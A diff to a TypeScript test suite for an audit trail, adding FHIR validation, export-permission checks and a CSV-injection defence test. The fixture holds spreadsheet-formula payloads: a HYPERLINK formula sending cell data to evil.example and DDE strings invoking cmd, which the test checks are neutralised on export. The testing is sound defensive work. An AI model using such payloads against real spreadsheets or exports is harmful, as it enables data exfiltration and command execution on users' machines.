@@ -3,12 +3,29 @@ import {
   type AuditCheckpointSigner,
   type AuditExportManifest,
 } from '@helixgate/audit';
+import Ajv from 'ajv';
+import { parse } from 'csv-parse/sync';
 import { createHash, randomBytes } from 'node:crypto';
 import * as fs from 'node:fs';
 import * as os from 'node:os';
 import * as path from 'node:path';
 import { testConfig } from '../support/test-config';
 import { auditTestApp, callerWith, type AuditTestApp } from './audit-test-app';
+
+const FHIR_AUDIT_EVENT_SCHEMA = JSON.parse(
+  fs.readFileSync(path.join(__dirname, '../fixtures/fhir/audit-event.r4.schema.json'), 'utf8'),
+) as object;
+
+/** Paths of empty arrays, objects and strings in a JSON value (FHIR JSON allows none). */
+function emptyParts(v: unknown, at = '$'): string[] {
+  if (v === '' || (Array.isArray(v) && v.length === 0)) return [at];
+  if (Array.isArray(v)) return v.flatMap((x, i) => emptyParts(x, `${at}[${i}]`));
+  if (v && typeof v === 'object') {
+    const entries = Object.entries(v);
+    return entries.length ? entries.flatMap(([k, x]) => emptyParts(x, `${at}.${k}`)) : [at];
+  }
+  return [];
+}
 
 /** What a compliance officer does with the trail: search, participant history, export, alerts. */
 describe('audit trail for compliance officers', () => {
@@ -52,20 +69,54 @@ describe('audit trail for compliance officers', () => {
         individualId: 'p-7',
       },
     });
+    // values a caller controls, shaped as spreadsheet formulas (CSV injection) and with no roles at all
+    await t.audit.record({
+      actor: `=HYPERLINK("https://evil.example/?x="&A1,"${tag}")`,
+      institution: '+cmd|"/c calc"!A0',
+      action: 'graphql:query beacon',
+      resource: '@SUM(1+1)*cmd|"/c calc"!A0',
+      outcome: 'deny',
+      reason: '-2+3',
+      datasetIds: [dataset],
+      detail: { purpose: '\t=1+1', operationName: '\r=1+1' },
+    });
+    // a record-level answer's decryption, as the beacon records it: the participants released, by index
+    await t.audit.record({
+      actor: `grantee-${tag}`,
+      action: 'decrypt',
+      outcome: 'allow',
+      datasetIds: [dataset],
+      granularity: 'RECORD',
+      detail: { purpose: 'GENERAL_RESEARCH', individualCount: 2, variantCount: 1, individuals: [2, 5] },
+    });
   });
   afterAll(async () => {
     await t.close();
     fs.rmSync(dir, { recursive: true, force: true });
   });
 
-  it('refuses anonymous callers and callers without the compliance or admin role', () => {
-    expect(() => t.audit.assertCanReadAudit(callerWith([], null))).toThrow(
-      expect.objectContaining({ code: 'UNAUTHENTICATED' }),
-    );
-    expect(() => t.audit.assertCanReadAudit(callerWith(['researcher', 'steward']))).toThrow(
-      expect.objectContaining({ code: 'FORBIDDEN' }),
-    );
-    expect(() => t.audit.assertCanReadAudit(callerWith(['admin']))).not.toThrow();
+  it('takes audit permissions from policies/roles.yaml: read for compliance and admin, export for compliance only', async () => {
+    const can = (roles: Parameters<typeof callerWith>[0], p: 'read' | 'export' | 'verify', subject?: null) =>
+      t.audit.assertAuditPermission(callerWith(roles, subject), p);
+    await expect(can([], 'read', null)).rejects.toMatchObject({ code: 'UNAUTHENTICATED' });
+    await expect(can(['researcher', 'steward'], 'read')).rejects.toMatchObject({ code: 'FORBIDDEN' });
+    await expect(can(['admin'], 'read')).resolves.toBeUndefined();
+    await expect(can(['admin'], 'verify')).resolves.toBeUndefined();
+    await expect(can(['admin'], 'export')).rejects.toMatchObject({
+      code: 'FORBIDDEN',
+      message: expect.stringContaining('export AuditEvent in policies/roles.yaml'),
+    });
+    await expect(can(['compliance'], 'export')).resolves.toBeUndefined();
+    const out = path.join(dir, 'refused.ndjson');
+    await expect(
+      t.audit.export(callerWith(['admin']), {
+        from: started,
+        to: new Date(),
+        format: 'ndjson',
+        outFile: out,
+      }),
+    ).rejects.toMatchObject({ code: 'FORBIDDEN' });
+    expect(fs.existsSync(out)).toBe(false);
   });
 
   it('searches by actor, dataset and outcome with keyset pagination, newest first', async () => {
@@ -105,6 +156,18 @@ describe('audit trail for compliance officers', () => {
     expect(await t.audit.participantAccessHistory(officer, dataset, 'p-8')).toHaveLength(0);
   });
 
+  it('answers only the decryptions that released the participant, and nothing for an unknown one', async () => {
+    expect(await t.audit.participantAccessHistory(officer, dataset, '<unknown>')).toEqual([]);
+    expect(await t.audit.participantAccessHistory(officer, dataset, '3')).toEqual([]);
+    expect(await t.audit.participantAccessHistory(officer, dataset, '5')).toEqual([
+      expect.objectContaining({ actor: `grantee-${tag}`, individualCount: 2 }),
+    ]);
+    // without an individual: every decryption of the dataset
+    expect((await t.audit.participantAccessHistory(officer, dataset)).map((h) => h.actor).sort()).toEqual(
+      [`grantee-${tag}`, `researcher-${tag}`].sort(),
+    );
+  });
+
   it('flags an actor above the baseline', async () => {
     const alerts = await t.audit.alerts(officer);
     expect(alerts).toEqual(
@@ -141,18 +204,44 @@ describe('audit trail for compliance officers', () => {
         expect(decrypt).toMatchObject({
           outcome: '0',
           purposeOfEvent: [{ text: 'Study of hereditary cardiomyopathy' }],
-          agent: [expect.objectContaining({ who: { identifier: { value: `researcher-${tag}` } } })],
+          agent: [
+            expect.objectContaining({
+              who: { identifier: { system: 'urn:helixgate:actor', value: `researcher-${tag}` } },
+            }),
+          ],
           entity: [
             expect.objectContaining({
               what: { identifier: { system: 'urn:helixgate:dataset', value: dataset } },
             }),
           ],
         });
+        // Every line is a FHIR R4 AuditEvent: required elements, cardinalities, no empty arrays or strings,
+        // a system on every identifier.
+        const validate = new Ajv({ allErrors: true }).compile(FHIR_AUDIT_EVENT_SCHEMA);
+        for (const e of events) {
+          if (!validate(e)) throw new Error(`${JSON.stringify(e)}: ${JSON.stringify(validate.errors)}`);
+          expect(emptyParts(e)).toEqual([]);
+        }
+        const roleless = events.find((e) => JSON.stringify(e).includes(`evil.example`))!;
+        expect((roleless.agent as Record<string, unknown>[])[0]).not.toHaveProperty('role');
       } else {
         expect(lines[0]).toBe(
           'seq,at,actor,roles,institution,action,resource,dataset_ids,granularity,outcome,reason,request_id,detail,prev_hash,hash',
         );
         expect(lines.some((l) => l.includes(`busy-${tag}`) && l.includes('FORBIDDEN'))).toBe(true);
+        // No cell of the file starts like a formula: = + - @ tab CR are prefixed with an apostrophe.
+        const records = parse<Record<string, string>>(body, { columns: true });
+        expect(records).toHaveLength(manifest.rows);
+        for (const r of records) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
+        const hostile = records.find((r) => r.actor.includes('evil.example'))!;
+        expect(hostile).toMatchObject({
+          actor: `'=HYPERLINK("https://evil.example/?x="&A1,"${tag}")`,
+          institution: `'+cmd|"/c calc"!A0`,
+          resource: `'@SUM(1+1)*cmd|"/c calc"!A0`,
+          reason: `'-2+3`,
+        });
+        // the JSON detail cell keeps its content (it starts with "{", not a formula)
+        expect(JSON.parse(hostile.detail)).toEqual({ purpose: '\t=1+1', operationName: '\r=1+1' });
       }
       expect(manifest.rows).toBe(lines.length - (format === 'csv' ? 1 : 0));
       const exportEvent = await t.audit.search(
